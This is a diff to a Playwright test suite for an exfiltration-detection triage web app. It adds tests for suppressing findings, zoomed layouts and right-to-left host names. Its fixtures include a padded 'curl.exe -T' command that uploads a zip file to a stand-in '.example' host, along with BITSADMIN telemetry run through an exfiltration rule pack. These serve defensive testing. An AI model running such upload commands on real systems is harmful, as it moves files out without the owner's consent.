@@ -8,13 +8,22 @@ from pathlib import Path
 import pytest
 from axe_playwright_python.sync_playwright import Axe
 from playwright.sync_api import Browser, Locator, Page, expect
+from tests.cli.telemetry import BITSADMIN, process, write
 from tests.doors.scenario import scenario
 from tests.findings.made import make
+from tests.service.asked import found
 from tests.service.program import Program, said, serving
 
+from exfilwatch.detection.load import load
+from exfilwatch.findings.finding import Finding
 from exfilwatch.findings.store import Store
+from exfilwatch.rules.packs import pack
 
+from .clicks import told
 from .kept import hostile
+
+RIGHT_TO_LEFT = ("\u05de\u05d7\u05e9\u05d1-7", "\u062d\u0627\u0633\u0648\u0628.example.org")
+LONG = "curl.exe -T " + "C:\\" + "x" * 3000 + ".zip https://" + "y" * 3000 + ".example/"
 
 
 class Visitor:
@@ -64,9 +73,27 @@ def token(home: Path, *scopes: str, **values) -> str:
 def home(tmp_path_factory) -> Path:
     """Incidents: what an attacker would like to see on the pages, and one of two rules."""
     made = tmp_path_factory.mktemp("triage")
-    findings = [*hostile(), make("a", -99999, host="ws-1", level="high"), make("b", -99990, host="ws-1", branch="x")]
-    Store(str(made / "kept.sqlite")).save(findings)
+    findings = [
+        *hostile(),
+        make("a", -99999, host="ws-one", level="high"),
+        make("b", -99990, host="ws-one", branch="x"),
+    ]
+    findings += [make(host, -88888, host=host, user=host[::-1], CommandLine=LONG) for host in RIGHT_TO_LEFT]
+    store = Store(str(made / "kept.sqlite"))
+    store.save(findings)
+    records = [process(BITSADMIN, second=second) for second in (2, 900)]
+    store.save(found(write(made / "bits.jsonl", *records), load([pack("exfil")])))
     return made
+
+
+def the_incident(home: Path, host: str = "ws-one") -> str:
+    return Store(str(home / "kept.sqlite")).incidents(host=host)[0].id
+
+
+def to_suppress(home: Path) -> Finding:
+    """A finding of a rule that there is, which another one is like."""
+    store = Store(str(home / "kept.sqlite"))
+    return next(each for each in store.find() if each.events[0].source.endswith("bits.jsonl"))
 
 
 @pytest.fixture(scope="module")
@@ -93,17 +120,17 @@ def test_from_a_poll_to_a_closed_case_by_clicks(chromium) -> None:
         shown = visitor.page
         expect(shown.get_by_role("heading", name="Nothing is open")).to_be_visible()
         shown.get_by_role("link", name="Polls").click()
-        expect(shown.get_by_text("never polled")).to_be_visible()
+        expect(shown.get_by_role("region", name="logs")).to_contain_text("never polled")
         shown.get_by_role("button", name="Poll now").click()
         expect(shown.get_by_text("read to the end")).to_be_visible(timeout=60_000)
         shown.get_by_role("link", name="Incidents").click()
         gravest = site.gravest()
         shown.locator(f'a[href="/incidents/{gravest.id}"]').click()
         shown.get_by_role("button", name="Open case").click()
-        expect(shown.get_by_role("status")).to_contain_text("case opened")
+        told(shown, "case opened")
         shown.get_by_label("Note").fill("The owner knows nothing of this.")
         shown.get_by_role("button", name="Add note").click()
-        expect(shown.get_by_role("status")).to_contain_text("got the note")
+        told(shown, "got the note")
         site.put_status("resolved")  # somebody closes it in the tracker
         visitor.waits_for(shown.get_by_text("no disposition yet"))
         expect(shown.locator(".head .state")).to_have_text("To judge")
@@ -122,6 +149,7 @@ def test_from_a_poll_to_a_closed_case_by_clicks(chromium) -> None:
         if others.count():
             others.select_option("benign")
         shown.get_by_role("button", name="Close case").click()
+        told(shown, "is closed")
         expect(shown.locator(".head .state")).to_have_text("Closed")
         shown.get_by_role("link", name="Incidents").first.click()
         shown.get_by_role("link", name=re.compile("^Closed")).click()
@@ -137,13 +165,13 @@ def test_the_list_is_filtered_while_one_types_and_goes_back(visitor) -> None:
     visitor.ready(".list")
     before = shown.locator(".list tbody tr").count()
     shown.keyboard.press("/")
-    shown.keyboard.type("ws-1", delay=20)
+    shown.keyboard.type("ws-one", delay=20)
     expect(shown.locator(".list tbody tr")).to_have_count(1)
-    assert "text=ws-1" in shown.url
+    assert "text=ws-one" in shown.url
     expect(shown.locator("#text")).to_be_focused()
     shown.go_back()
     expect(shown.locator(".list tbody tr")).to_have_count(before)
-    shown.get_by_label("Level").select_option("high")
+    shown.get_by_label("Level").select_option("critical")
     expect(shown.locator(".list tbody tr")).to_have_count(1)
     assert visitor.was_quiet(), visitor.complaints
 
@@ -177,14 +205,48 @@ def test_everything_goes_by_keyboard(visitor) -> None:
     assert visitor.was_quiet(), visitor.complaints
 
 
+def test_a_finding_is_suppressed_and_that_is_ended_by_keyboard(visitor, home) -> None:
+    shown, keys = visitor.page, visitor.page.keyboard
+    finding = to_suppress(home)
+    shown.goto(f"{visitor.url}/incidents/{Store(str(home / 'kept.sqlite')).incident_of(finding.id)}")
+    visitor.ready("#findings")
+    shown.locator(f"#finding-{finding.id}").get_by_role("link", name="Suppress what is like it").focus()
+    keys.press("Enter")
+    visitor.ready("#until")
+    keys.press("c")
+    expect(shown.get_by_label("For", exact=True)).to_be_focused()
+    for key in ("ArrowDown", "Tab", "Tab", "Tab", "Tab"):  # a day has three parts
+        keys.press(key)
+    shown.get_by_label("because").focus()
+    keys.type("migration, CHG-1042")
+    keys.press("Enter")
+    expect(shown.get_by_role("heading", name="From now until")).to_be_visible()
+    expect(shown.get_by_text("It would also have hidden 1 finding")).to_be_visible()
+    shown.get_by_role("button", name="Suppress it").focus()
+    keys.press("Enter")
+    expect(shown.get_by_role("status").first).to_contain_text("is suppressed until")
+    shown.get_by_role("link", name="end it").focus()
+    keys.press("Enter")
+    expect(shown.get_by_text("holds")).to_be_visible()
+    shown.get_by_label("End it now, because").fill("it is done")
+    keys.press("Enter")
+    expect(shown.get_by_text("(ended early by admin: it is done)")).to_be_visible()
+    assert visitor.was_quiet(), visitor.complaints
+
+
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 def test_axe_finds_nothing_serious(chromium, kept, home, scheme) -> None:
     visitor = Visitor(chromium, *kept, color_scheme=scheme, bypass_csp=True)
-    where = Store(str(home / "kept.sqlite")).incidents(host="ws-1")[0].id
+    where = the_incident(home)
     only = {"runOnly": ["color-contrast"]} if scheme == "dark" else None  # colours are all that differs
     found = {}
-    for path in ("/", f"/incidents/{where}", "/polls", "/rules", "/audit", "/login"):
+    suppress = f"/findings/{to_suppress(home).id}/suppress"
+    for path in ("/", f"/incidents/{where}", suppress, "/suppressions", "/polls", "/rules", "/audit", "/login"):
         visitor.page.goto(visitor.url + path)
+        if path == suppress:
+            visitor.page.get_by_label("because").fill("a reason")
+            visitor.page.get_by_role("button", name="Show what it would hide").click()
+            expect(visitor.page.get_by_role("button", name="Suppress it")).to_be_visible()
         visitor.page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
         violations = Axe().run(visitor.page, options=only).response["violations"]
         grave = [(each["id"], each["nodes"][0]["html"][:200]) for each in violations if each["impact"] != "minor"]
@@ -195,13 +257,18 @@ def test_axe_finds_nothing_serious(chromium, kept, home, scheme) -> None:
     assert ground == {"light": "rgb(243, 244, 247)", "dark": "rgb(16, 20, 27)"}[scheme]
 
 
-@pytest.mark.parametrize("width", [320, 800])
-def test_nothing_is_wider_than_the_screen(chromium, kept, home, width) -> None:
-    visitor = Visitor(chromium, *kept, viewport={"width": width, "height": 800})
-    where = Store(str(home / "kept.sqlite")).incidents(host="ws-1")[0].id
-    for path in ("/", f"/incidents/{where}", "/polls", "/rules", "/audit", "/login"):
+@pytest.mark.parametrize(("width", "zoom"), [(320, 1), (800, 1), (640, 2)])
+def test_nothing_is_wider_than_the_screen(chromium, kept, home, width, zoom) -> None:
+    """Zoomed, a screen has so many times less room, as browsers do it."""
+    size = {"width": width // zoom, "height": 800 // zoom}
+    visitor = Visitor(chromium, *kept, viewport=size, device_scale_factor=zoom)
+    hosts = ["ws-one", *RIGHT_TO_LEFT]
+    paths = ["/", "/?state=", *(f"/incidents/{the_incident(home, host)}" for host in hosts)]
+    paths += [f"/findings/{to_suppress(home).id}/suppress", "/suppressions", "/polls", "/rules", "/audit", "/login"]
+    for path in paths:
         visitor.page.goto(visitor.url + path)
-        assert visitor.page.evaluate("document.documentElement.scrollWidth") <= width, path
+        visitor.page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
+        assert visitor.page.evaluate("document.documentElement.scrollWidth") <= size["width"], path
     visitor.close()
 
 
